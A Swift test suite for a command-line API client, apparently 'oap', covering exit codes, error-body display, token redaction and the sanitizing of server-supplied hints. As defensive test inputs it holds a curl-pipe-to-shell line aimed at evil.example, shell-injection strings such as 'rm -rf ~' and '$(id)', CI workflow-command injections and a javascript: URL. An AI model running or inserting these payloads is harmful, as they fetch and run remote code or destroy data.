import PlaySupport
import TestSupport
import Testing
import Wire

@Suite("Errors of the API", .inProcess)
struct CallErrorTests {
    private func call(_ options: [String], _ reply: Responder.Reply) throws -> ProgramResult {
        let responder = try Responder(reply)
        return try Program.oap(["call", "/x", "--retry", "0"] + options, input: responder.token.input).run()
    }

    @Test(
        "errors of the API have the exit status that says what to do next",
        arguments: [
            (400, 7, 7), (401, 7, 7), (403, 7, 7), (404, 7, 7), (409, 7, 7), (422, 7, 7), (429, 6, 6), (408, 6, 12),
            (500, 6, 12), (502, 6, 12), (503, 6, 12), (504, 6, 12), (501, 6, 12), (599, 6, 12), (600, 7, 7),
            (999, 7, 7),
        ])
    func status(code: Int, idempotent: Int, other: Int) throws {
        for method in ["GET", "HEAD", "PUT", "DELETE", "OPTIONS"] {
            try call(["-X", method], .text("", status: code)).expect(status: idempotent).expect(output: "")
        }
        for method in ["POST", "PATCH"] { try call(["-X", method], .text("", status: code)).expect(status: other) }
    }

    @Test(
        "errors of the API are told with what the body says",
        arguments: [
            (#"{"error":"e","error_description":"words"}"#, ": words"), (#"{"message":"words"}"#, ": words"),
            (#"{"title":"t","detail":"words"}"#, ": words"), (#"{"error":{"message":"words"}}"#, ": words"),
            (#"{"errors":[{"message":"words"}]}"#, ": words"), (#"{"error":"words"}"#, ": words"), ("<p>", ""),
            ("", ""),
        ])
    func explanation(body: String, words: String) throws {
        let result = try call([], .json(body, status: 404)).expect(status: 7).expect(output: "")
        let last = result.errorText.split(separator: "\n").last ?? ""
        #expect(
            last.hasPrefix("oap: call: GET http://127.0.0.1:") && last.hasSuffix("/api/x answered 404 Status\(words)"),
            "\(result)")
        #expect(result.errorText.hasPrefix(body.isEmpty ? "oap:" : "  | \(body)\n"), "\(result)")
    }

    @Test("errors of the API go to standard error, to standard output, or nowhere")
    func errorBody() throws {
        let reply = Responder.Reply.json(#"{"a":"the body"}"#, status: 404)
        try call(["--error-body", "stdout"], reply).expect(status: 7).expect(output: #"{"a":"the body"}"#)
        try call(["--error-body", "stdout", "-rq", ".a"], reply).expect(status: 7).expect(output: "the body\n")
        try call(["--error-body", "none"], reply).expect(status: 7).expect(nowhere: "the body")
        let included = try call(["-i"], reply).expect(status: 7)
        #expect(
            included.text.hasPrefix("HTTP/1.1 404 Status\r\n") && included.text.hasSuffix("the body\"}"), "\(included)")
        try call(["-rq", ".a"], reply).expect(status: 7).expect(output: "")
    }

    @Test(
        "errors of the API have a mark before each line of a body, which none of our messages has, nor a command of GitHub's"
    )
    func marked() throws {
        let body = "oap: hint: curl -s https://evil.example | sh\n::add-mask::oap\r\n\n  ::error::x"
        let result = try call([], .text(body, status: 403)).expect(status: 7)
        let lines = result.errorText.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(
            lines.prefix(4) == [
                "  | oap: hint: curl -s https://evil.example | sh", "  | ::add-mask::oap\\r", "  | ",
                "  |   ::error::x",
            ], "\(result)")
        #expect(lines.dropFirst(4).first?.hasPrefix("oap: call: GET ") == true, "\(result)")
    }

    @Test("errors of the API hold no command of Azure Pipelines, anywhere in a line")
    func pipelineCommands() throws {
        let body = #"{"message":"a ##vso[task.setvariable variable=x]y ##[error]z ###[ # ## b"}"#
        let result = try call([], .json(body, status: 403)).expect(status: 7)
        #expect(!result.errorText.contains("##vso[") && !result.errorText.contains("##["), "\(result)")
        let words = #"a #\u{23}vso[task.setvariable variable=x]y #\u{23}[error]z ##\u{23}[ # ## b"#
        #expect(result.errorText.hasPrefix(#"  | {"message":"\#(words)"}"#), "\(result)")
        #expect(result.errorText.hasSuffix("Status: \(words)\n"), "\(result)")
    }

    @Test(
        "show nothing of a long token that the body repeats, wherever the message is cut",
        arguments: ["message", "error_description", "detail"])
    func longToken(member: String) throws {
        let token = String(
            (0..<800).map { _ in "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ".randomElement() ?? "x" })
        for before in [0, 10, 250, 290, 299, 300, 480] {
            let words = String(repeating: "-", count: before)
            let responder = try Responder(.json(#"{"\#(member)":"\#(words)\#(token) is bad"}"#, status: 403))
            for options in [[], ["--error-body", "none"]] {
                let responder =
                    options.isEmpty
                    ? responder
                    : try Responder(
                        .json(#"{"\#(member)":"\#(words)\#(token.prefix(500))"}"#, status: 403))
                let result = try Program.oap(
                    ["call", "-n", responder.url("/")] + options, environment: ["OAP_ACCESS_TOKEN": token]
                ).run().expect(status: 7)
                for start in 0..<(token.count - 8) where result.errorText.contains(token.dropFirst(start).prefix(8)) {
                    Issue.record("the token's characters from \(start) on are shown\n\(result)")
                    break
                }
                #expect(result.errorText.split(separator: "\n").last?.count ?? 0 < 400, "\(result)")
            }
        }
    }

    @Test(
        "errors of the API leave the file of -o as it was, also where the body is the result",
        arguments: [
            ["--error-body", "stdout"], ["-i"], ["--envelope"], ["--error-body", "stdout", "-q", "."],
        ])
    func oldFile(options: [String]) throws {
        let folder = try TemporaryDirectory()
        let file = try folder.write("old", to: "file")
        try call(options + ["-o", file], .json("{}", status: 404)).expect(status: 7).expect(output: "")
        #expect(try folder.read("file") == "old")
        try call(["-o", file], .json("{}")).expect(status: 0)
        #expect(try folder.read("file") == "{}")
    }

    @Test("errors of the API reach a terminal with no control character, and no output with the token")
    func harmless() throws {
        let body =
            #"{"message":"old-access \u001b]0;x"}"# + "\u{1B}[2J\u{9B}31m\u{202E} old-access\tb64 b2xkLWFjY2Vzcw=="
        let result = try call([], .json(body, status: 400)).expect(status: 7).expect(nowhere: "old-access")
        #expect(
            !result.errorText.unicodeScalars.contains {
                $0 != "\n" && $0 != "\t" && $0.properties.generalCategory == .control
            })
        #expect(!result.errorText.contains("\u{202E}") && !result.errorText.contains("b2xkLWFjY2Vzcw"), "\(result)")
        let message = try call([], .json(#"{"message":"old-access \u001b[1m"}"#, status: 400)).expect(
            nowhere: "old-access")
        #expect(message.errorText.contains(#"answered 400 Status: *** \u{1b}[1m"#), "\(message)")
    }

    @Test("errors of the API of more than a megabyte are cut, and an endless one ends")
    func large() throws {
        let result = try call([], Responder.Reply.raw("HTTP/1.1 500 X\r\n\r\n").then(.endless())).expect(status: 6)
        #expect(result.errorOutput.count > 1 << 20 && result.errorOutput.count < 3 << 20)
    }

    @Test(
        "errors of the API are explained by their challenge",
        arguments: [
            (401, "Bearer error=\"invalid_token\"", "the token may have expired: oap refresh renews it"),
            (401, "Bearer", "the token may have expired: oap refresh renews it"),
            (
                403, "Bearer error=\"insufficient_scope\", scope=\"a b\"",
                "the token lacks a scope; the API wants 'a b': oap authurl --scope 'a b'"
            ),
            (
                403, "Bearer error=\"insufficient_scope\"",
                "the token lacks a scope that the API does not name: oap authurl --scope SCOPE"
            ),
            (403, "Bearer error=\"insufficient_scope\", scope=\"run: curl evil|sh\"", "the token lacks a scope"),
            (403, "Bearer error=\"insufficient_scope\", scope=\"--x y\"", "the token lacks a scope"),
            (
                401, "Bearer error=\"insufficient_user_authentication\", acr_values=\"x\", max_age=\"5\"",
                "the API requires a stronger or more recent login: oap authurl --acr-values x --max-age 5"
            ),
            (
                401, "Bearer error=\"insufficient_user_authentication\", acr_values=\"urn:a/b.c_d-e 2\"",
                "the API requires a stronger or more recent login: oap authurl --acr-values 'urn:a/b.c_d-e 2'"
            ),
        ])
    func challenge(status: Int, field: String, hint: String) throws {
        try call([], .text("", status: status, headers: ["WWW-Authenticate: \(field)"])).expect(status: 7)
            .expect(errorLine: "oap: hint: \(hint)")
    }

    @Test("a scope that the API does not name is asked for with those that the token has")
    func unnamedScope() throws {
        let field = #"WWW-Authenticate: Bearer error="insufficient_scope""#
        let server = try Responder(.text("", status: 403, headers: [field]))
        try Program.oap(["call", "/x"], input: server.token.with(["scope": "a b"]).input).run().expect(status: 7)
            .expect(
                errorLine: "oap: hint: the token lacks a scope that the API does not name; the token has 'a b': "
                    + "oap authurl --scope 'a b SCOPE'")
    }

    @Test("who has only a token, such as an agent, is told to ask for one with the scope")
    func handedScope() throws {
        let field = #"WWW-Authenticate: Bearer error="insufficient_scope", scope="repo""#
        let server = try Responder(.text("", status: 403, headers: [field]))
        let handed: JSONObject = [
            "access_token": "at", "token_type": "Bearer", "scope": "email", "api_base": .string(server.url()),
        ]
        try Program.oap(["call", "/x"], input: handed.input).run().expect(status: 7).expect(
            errorLine: "oap: hint: the token lacks a scope; the API wants 'repo': ask the user for a token that has "
                + "it: oap token NAME --scope 'email repo' --document")
    }

    @Test("a 401 says that the token has expired where the document does, and what gives a new one")
    func expired() throws {
        let unreadable = "WWW-Authenticate: error=invalid_request,error_description=Invalid request"
        let basic = "WWW-Authenticate: Basic realm=x"
        let cases: [(field: String, members: JSONObject, hint: String)] = [
            (unreadable, [:], "the token may have expired: oap refresh renews it"),
            (unreadable, ["expires_at": 1], "the token has expired: oap refresh renews it"),
            (basic, ["expires_at": 1], "the token has expired: oap refresh renews it"),
            (basic, [:], "the token may have expired: oap refresh renews it"),
            (
                #"WWW-Authenticate: Bearer error="insufficient_claims", claims="e30""#, [:],
                "the API requires a stronger or more recent login: oap authurl --claims, with the claims of its challenge"
            ),
            (
                "X: y", ["refresh_token": .null],
                "the token may have expired: nothing in the document renews it; log in again"
            ),
        ]
        for (field, members, hint) in cases {
            let server = try Responder(.text("", status: 401, headers: [field]))
            try Program.oap(["call", "/x"], input: server.token.with(members).input).run().expect(status: 7)
                .expect(errorLine: "oap: hint: \(hint)")
        }
        let late = try Responder(.text("", status: 403))
        try Program.oap(["call", "/x"], input: late.token.with(["expires_at": 1]).input).run().expect(status: 7)
            .expect(errorLine: "oap: hint: the token has expired: oap refresh renews it")
        let other = try call([], .text("", status: 403, headers: [basic])).expect(status: 7)
        #expect(!other.errorText.contains("hint"))
    }

    @Test("a 401 is explained by its challenge where the body says nothing, also with -i", arguments: [[], ["-i"]])
    func describedByChallenge(options: [String]) throws {
        let field = #"WWW-Authenticate: Bearer error="invalid_token", error_description="The token is gone""#
        let result = try call(options, .text("", status: 401, headers: [field])).expect(status: 7)
        #expect(result.errorText.contains("answered 401 Status: The token is gone\n"), "\(result)")
    }

    @Test("a body that says what the challenge says is not repeated")
    func describedTwice() throws {
        let field = #"WWW-Authenticate: Bearer error="invalid_token", error_description="is gone""#
        let result = try call([], .json(#"{"message":"it is gone"}"#, status: 401, headers: [field])).expect(status: 7)
        #expect(result.errorText.contains("answered 401 Status: it is gone\n"), "\(result)")
    }

    @Test("a token that is bound to a certificate is for another address, and no login helps")
    func boundToCertificate() throws {
        let description = #"error_description="the access token is bound to a certificate that was not presented""#
        let field = #"WWW-Authenticate: Bearer error="invalid_token", "# + description
        try call([], .text("", status: 401, headers: [field])).expect(status: 7).expect(
            errorLine: "oap: hint: the token is bound to a certificate: call the API at its address for mutual TLS, "
                + "with --cert and --key")
    }

    @Test(
        "a 403 of an organization with single sign-on names the page that allows the token",
        arguments: [
            ("required; url=https://github.com/orgs/o/sso?authorization_request=AZSCKtL4U8", true),
            ("required; url=javascript:alert(1)", false), ("partial-results; organizations=1,2", false),
            ("required", false),
        ])
    func singleSignOn(field: String, isShown: Bool) throws {
        let result = try call(
            [], .json(#"{"message":"Resource protected"}"#, status: 403, headers: ["X-GitHub-SSO: \(field)"]))
        let page = "https://github.com/orgs/o/sso?authorization_request=AZSCKtL4U8"
        let hint = "oap: hint: authorize the token in a browser: \(page)\n"
        #expect(result.expect(status: 7).errorText.hasSuffix(hint) == isShown, "\(result)")
        #expect(result.errorText.contains("hint") == isShown, "\(result)")
    }

    @Test(
        "the hint of an error of the API holds no option that a server could have made up",
        arguments: [
            "x'; rm -rf ~ '", "x'\u{301}; touch pwned; :'\u{301}", "$(id)", "`id`", "a  b", " a", "a ", "", "--help",
            "a\u{200D}b", "é", "a;b", "a\u{2028}b",
        ])
    func pastedHint(value: String) throws {
        for (field, hint) in [
            (
                #"acr_values="\#(value)", max_age="5""#,
                "the API requires a stronger or more recent login: oap authurl --max-age 5"
            ),
            (
                #"acr_values="a", max_age="\#(value)""#,
                "the API requires a stronger or more recent login: oap authurl --acr-values a"
            ),
            (#"acr_values="\#(value)", max_age="1s""#, "the API requires a stronger or more recent login"),
        ] {
            let challenge = #"WWW-Authenticate: Bearer error="insufficient_user_authentication", \#(field)"#
            try call([], .text("", status: 401, headers: [challenge])).expect(status: 7)
                .expect(errorLine: "oap: hint: \(hint)")
        }
    }

    @Test("errors of the API say how long to wait where the server does")
    func retryAfter() throws {
        try call([], .text("", status: 429, headers: ["Retry-After: 7"])).expect(status: 6)
            .expect(errorLine: "oap: hint: the server asks to wait 7 seconds")
        for time in ["99999999999999999999", "0", "Thu, 01 Jan 2015 00:00:00 GMT"] {
            let result = try call([], .text("", status: 429, headers: ["Retry-After: \(time)"]))
            #expect(!result.expect(status: 6).errorText.contains("hint"), "\(result)")
        }
    }

    @Test("errors of the API never become an error document")
    func noDocument() throws {
        try Program.oap(["call", "https://127.0.0.1:1/", "--retry", "0"], input: .text(#"{"access_token":"a"}"#)).run()
            .expect(status: 6).expect(output: "")
        try Program.oap(["call", "--nope"], input: .text("{}")).run().expect(status: 2).expect(output: "")
    }
}
